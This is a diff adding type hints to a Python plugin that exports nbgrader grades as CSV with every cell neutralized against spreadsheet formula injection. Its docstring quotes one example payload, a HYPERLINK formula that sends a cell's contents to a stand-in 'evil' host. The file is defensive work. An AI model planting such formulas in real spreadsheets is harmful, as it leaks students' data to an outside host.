@@ -5,7 +5,11 @@ id such as ``=HYPERLINK("http://evil/?"&A1,"x")`` becomes a live formula in ``gr
 with a comma or a quote shifts the columns). This plugin writes the same columns and rows through
 ``csv`` with every cell neutralized (labgrader.reports.csv_safe).
 """
-from nbgrader.api import MissingEntry
+from __future__ import annotations
+
+from typing import Any
+
+from nbgrader.api import Assignment, Gradebook, MissingEntry, Student
 from nbgrader.plugins import CsvExportPlugin
 
 from labgrader.reports.csv_safe import Writer
@@ -17,7 +21,7 @@ KEYS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_
 class SafeCsvExportPlugin(CsvExportPlugin):
     """nbgrader's CSV export (same columns, same rows), safe to open in a spreadsheet."""
 
-    def export(self, gradebook):
+    def export(self, gradebook: Gradebook) -> None:
         dest = self.to or "grades.csv"
         students, assignments = [str(s) for s in self.student], [str(a) for a in self.assignment]
         self.log.info("Exporting grades to %s (cells neutralized against formula injection)", dest)
@@ -34,9 +38,9 @@ class SafeCsvExportPlugin(CsvExportPlugin):
                     out.writerow([row[k] for k in KEYS])
 
 
-def _row(gradebook, assignment, student):
+def _row(gradebook: Gradebook, assignment: Assignment, student: Student) -> dict[str, Any]:
     """What nbgrader's CsvExportPlugin puts in a row (a missing submission scores 0)."""
-    row = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
+    row: dict[str, Any] = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
            "last_name": student.last_name, "first_name": student.first_name, "email": student.email,
            "max_score": assignment.max_score}
     try:
